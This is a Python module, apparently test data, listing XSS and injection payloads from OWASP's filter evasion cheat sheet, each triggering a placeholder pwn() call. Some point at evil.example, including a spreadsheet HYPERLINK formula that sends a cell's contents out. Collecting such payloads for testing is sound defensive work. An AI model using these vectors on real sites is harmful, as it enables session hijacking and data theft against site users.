"""What people who mean harm write where a name, a headline or a note is asked for.

Each runs ``pwn()`` if anything on a page takes it for code; the last is for spreadsheets. The ways
in are those of OWASP's XSS filter evasion cheat sheet.
"""

from __future__ import annotations

PAYLOADS = (
    "<script>pwn()</script>",
    "</script><script>pwn()</script>",
    '"><script>pwn()</script>',
    "'><img src=x onerror=pwn()>",
    '" autofocus onfocus="pwn()" x="',
    "' onmouseover='pwn()' style='position:fixed;inset:0",
    "<svg onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    "<details open ontoggle=pwn()>",
    "<body onload=pwn()>",
    "<math><mtext></p><style><!--</style><img src=x onerror=pwn()>",
    "</textarea><img src=x onerror=pwn()>",
    "</title><img src=x onerror=pwn()>",
    "--><img src=x onerror=pwn()>",
    "</style><img src=x onerror=pwn()>",
    "<a href=javascript:pwn()>here</a>",
    "javascript:pwn()",
    "java\tscript:pwn()",
    "data:text/html,<script>pwn()</script>",
    "<form action=javascript:pwn()><button>here</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:pwn()'>",
    "<div hx-get='/' hx-trigger='load' hx-on::load='pwn()'></div>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'>",
    "{{ pwn() }} {% raw %} ${pwn()} #{pwn()}",
    "\u202e<script>pwn()</script>\u2066",
    "<scr\x00ipt>pwn()</scr\x00ipt>",
    "<<script>pwn()//<</script>",
    "`><img src=x onerror=pwn()>",
    "\uff1cscript\uff1epwn()\uff1c/script\uff1e",
    "&lt;script&gt;pwn()&lt;/script&gt;",
    "%3Cscript%3Epwn()%3C/script%3E",
    '=HYPERLINK("https://evil.example/?"&A1,"pwn()")',
)
